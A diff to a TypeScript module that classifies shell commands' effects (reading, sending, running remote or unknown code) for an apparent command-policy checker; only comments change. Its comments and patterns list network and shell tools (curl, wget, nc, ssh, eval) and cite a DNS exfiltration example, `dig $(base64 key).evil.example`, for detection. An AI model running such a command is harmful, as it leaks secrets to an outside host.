@@ -36,14 +36,14 @@ import { writesShadow } from '../programs/shadowing-files.ts';
 export interface CommandFacts {
   readonly accesses: readonly Access[];
   readonly readOnly: boolean;
-  /** It changes the files of its accesses and does nothing else. */
+  /** It only changes the files of its accesses. */
   readonly isEdit: boolean;
   /** Why it may do more than its rows say. */
   readonly doubts: readonly string[];
   readonly risks: readonly CommandRisk[];
 }
 
-/** What one command does, in the vocabulary of policies: by its rows, its words, and the files and hosts that it touches. */
+/** The effects of one command: by its rows, its words, and the files and hosts that it touches. */
 export function commandEffects(
   command: Expanded,
   facts: CommandFacts,
@@ -61,7 +61,7 @@ export function commandEffects(
   const all = [...stated, ...touched, ...sent, ...doubtful];
   if (all.some(({ effect }) => effect === 'run-other' || effect === 'run') && removesByCode(command))
     all.push({ effect: 'lose' });
-  // What runs in a container is no code of this machine; what starts it there says what else that is.
+  // Code in a container does not run on this machine; the command that starts the container states its other effects.
   const nobody = command.contained ? 'remote-run' : 'run-other';
   if (all.length === 0) return [{ effect: facts.isEdit ? 'read' : nobody }];
   return all.map((one) => (one.effect === 'run-other' ? { ...one, effect: nobody } : one));
@@ -86,12 +86,12 @@ function statedEffects(
     ...(code === undefined ? foreignCode(command, facts, { byRow, own, around }) : []),
   ];
   const risks = riskEffects(command, facts.risks, { found, byRow });
-  // `git $x`, `kamal deploy`: what its words say, and what nobody knows.
+  // `git $x`, `kamal deploy`: the effects of its words, plus unknown code.
   const isKnown = found.some(({ possible }) => possible !== true);
   return [...(isKnown ? [] : [{ effect: 'run-other' } as const]), ...found, ...risks];
 }
 
-/** What a word of the call brings along that the rows know nothing of. */
+/** Code from elsewhere that a word of the call brings in, unknown to the rows. */
 function foreignCode(
   whole: Expanded,
   facts: CommandFacts,
@@ -140,7 +140,10 @@ function leaves(
   return edits && (namesOutside(accesses, world) || startsShell(command));
 }
 
-/** A query of another system, or a look at this machine; a row may say that what it prints is a secret, a carrier that it runs elsewhere. */
+/**
+ * A query to another system or a read of this machine; a row may state that the output is a secret, a carrier that it runs
+ * elsewhere.
+ */
 function readEffects({ judgement, args }: Expanded, byRow: readonly Effect[]): readonly Effect[] {
   const carries = args?.command.carries !== undefined;
   const kept = byRow.filter(({ effect }) => effect === 'secret' || (carries && effect === 'remote-run'));
@@ -170,7 +173,10 @@ function byRows(command: Expanded, around: CommandSurroundings): RowEffects {
     : saidByWords(command, base, around);
 }
 
-/** `pnpm git push`, `yarn sh -c x`: what is no script of the project and no sub-command is a program of the machine. */
+/**
+ * `pnpm git push`, `yarn sh -c x`: a word that is neither a script of the project nor a sub-command is a program of the
+ * machine.
+ */
 function handedOn(
   name: string,
   { depth }: RowEffects,
@@ -193,7 +199,7 @@ function handedOn(
 
 const shells = /^(?:sh|bash|zsh|dash|ksh|env|sudo|curl|wget|nc|ssh|eval)$/u;
 
-/** `sail up`: what a carrier runs may be a sub-command of its own. */
+/** `sail up`: the carried command may be a sub-command of the carrier. */
 function carriedRows(chain: Expanded['chain']): RowEffects {
   for (const { words, at } of chain) {
     const name = literalOf(words[0]) ?? '';
@@ -203,7 +209,10 @@ function carriedRows(chain: Expanded['chain']): RowEffects {
   return noEffects;
 }
 
-/** A short program of a language that is not parsed, which visibly computes, looks and prints, or what a debugger is told. */
+/**
+ * A short program in a language that is not parsed and that visibly only computes, reads and prints; or commands for a
+ * debugger.
+ */
 function plainProgram(command: Expanded, around: CommandSurroundings): RowEffects | undefined {
   const { words, elsewhere, contained, away, assignments, place } = command;
   const isHere =
@@ -213,12 +222,12 @@ function plainProgram(command: Expanded, around: CommandSurroundings): RowEffect
   const plain = { ...noEffects, effects: [{ effect: 'run' }] } as const;
   const debugged = debuggedFiles(words);
   if (debugged === undefined) return plainCodeIn(command) === undefined ? undefined : plain;
-  // `thread apply all bt` applies nothing.
+  // In `thread apply all bt` the word `apply` applies nothing.
   const spelled = new Set(words.map((word) => literalOf(word) ?? ''));
   return debugged.every((file) => isProjectFile(file, command, around)) ? { ...plain, spelled } : undefined;
 }
 
-/** A program in the call that loads code of the project, or is started by a runner with its packages. */
+/** Whether a program in the call loads code of the project, or is started by a runner with its packages. */
 function runsHere(command: Expanded, around: CommandSurroundings): boolean {
   const { judgement, elsewhere, assignments, place } = command;
   const isRunner = elsewhere === 'from the packages of the project or a registry';
@@ -231,11 +240,11 @@ function runsHere(command: Expanded, around: CommandSurroundings): boolean {
   )
     return false;
   const written = around.writtenBefore?.(command) ?? [];
-  // `echo x > own.js; node -e 'require("./own")'`: what it loads may be what was written.
+  // `echo x > own.js; node -e 'require("./own")'`: it may load what was just written.
   return written.length === 0 || (!loads && !writesShadow(written, place.in));
 }
 
-/** A program in the call that says that it removes files. */
+/** Whether a program in the call explicitly removes files. */
 function removesByCode({ words, redirections, contained, away }: Expanded): boolean {
   if (contained || away || !codeTakers.test(literalOf(words[0]) ?? '')) return false;
   const texts = [...words.slice(1).map((word) => literalOf(word) ?? ''), givenText(redirections) ?? ''];
@@ -245,7 +254,7 @@ function removesByCode({ words, redirections, contained, away }: Expanded): bool
 const codeTakers =
   /^(?:node|nodejs|tsx|bun|deno|python[\d.]*|pypy3?|ruby|perl|php|lua|Rscript|julia|groovy|elixir|swift|scala|clojure|bb|[gmn]?awk|osascript)$/u;
 
-/** What words of a task's name say, unless a row spells them: `cargo publish --dry-run`. */
+/** The effects that the words of a task's name suggest, unless a row spells those words: `cargo publish --dry-run`. */
 function riskEffects(
   { words }: Expanded,
   risks: readonly CommandRisk[],
@@ -254,9 +263,9 @@ function riskEffects(
     byRow: { spelled, looks, effects, depth },
   }: { readonly found: readonly Effect[]; readonly byRow: RowEffects },
 ): readonly Effect[] {
-  // `dig api.staging.acme.dev` only names a place; `rake -e staging migrate` works there.
+  // `dig api.staging.acme.dev` only names an environment; `rake -e staging migrate` works in it.
   const runsCode = looks !== true && found.some(({ effect }) => effect === 'run' || effect === 'serve');
-  // `linkerd viz stat deploy`: behind a sub-command that only asks stands what it asks about.
+  // `linkerd viz stat deploy`: the words after a reading sub-command are its objects.
   const isAsked = depth > 0 && effects.every(({ effect }) => effect === 'read' || effect === 'remote-read');
   return risks
     .filter(({ at }) => !isAsked || !/^[a-z]+(?:\/[\w./-]+)?$/u.test(literalOf(words[at]) ?? ''))
@@ -287,7 +296,7 @@ function fileEffects(access: PathAccess, command: Expanded, { around }: Accessin
     case 'delete':
       return [removingEffect(access, command, around)];
     default:
-      // What a request takes along: a rule about its host says nothing of the file.
+      // A file that a request sends: a rule about the host does not cover the file.
       return command.judgement?.fetches === undefined ? [] : [{ effect: 'read', access }];
   }
 }
@@ -295,15 +304,15 @@ function fileEffects(access: PathAccess, command: Expanded, { around }: Accessin
 function hostEffects(access: HostAccess, { judgement }: Expanded, { stated }: Accessing): readonly Effect[] {
   if (stated.some(({ effect }) => effect === 'publish')) return [];
   const isKnown = stated.some(({ effect, possible }) => possible !== true && effect !== 'run-other');
-  // `jj new`: a bare word is not a host to a program whose rows know it.
+  // `jj new`: a bare word is not a host if the rows know the program.
   if (isKnown && access.url.known && !/[.:]|^localhost$/u.test(access.url.host)) return [];
   const effect = hostEffect(access, judgement?.fetches);
   return effect === undefined ? [] : [{ effect, access }];
 }
 
 /**
- * What programs that ask a name server, a route or a monitoring system send along. A name that people gave carries nothing;
- * one that holds text for others is computed, or long: `dig $(base64 key).evil.example`.
+ * The effect of data that lookups send to a name server, a route or a monitoring system. An ordinary name carries no data; one
+ * that does is computed, or long: `dig $(base64 key).evil.example`.
  */
 function lookupEffects({ words }: Expanded, accesses: readonly Access[]): readonly Effect[] {
   const hosts = accesses.flatMap((access) => (access.kind === 'network' ? [access.url] : []));
@@ -326,13 +335,13 @@ function isLookup({ words }: Expanded): boolean {
 const lookups =
   /^(?:dig|nslookup|host|drill|kdig|ping6?|fping|mtr|traceroute|tracepath|doggo?|getent|whois|promtool|amtool|logcli|mimirtool)$/u;
 
-/** `streamlit run https://...`: nobody knows what such a program does with an address. */
+/** `streamlit run https://...`: it is unknown what such a program does with a URL. */
 function possibleFetch(access: Access): readonly Effect[] {
   if (access.kind !== 'network' || !access.url.known || isLoopback(access.url.host)) return [];
   return [{ effect: 'fetch', possible: true, access }];
 }
 
-/** A host that the words name. Where a row knows the program, hosts of its own settings are part of what it states. */
+/** The effect of a host in the words. If a row knows the program, hosts in its own settings are part of what the row states. */
 function hostEffect({ url }: HostAccess, fetches: 'asks' | 'sends' | undefined): EffectName | undefined {
   if (!url.known) return fetches === undefined ? undefined : fetches === 'sends' ? 'send' : 'fetch';
   if (isLoopback(url.host)) return loopbackEffect(url);
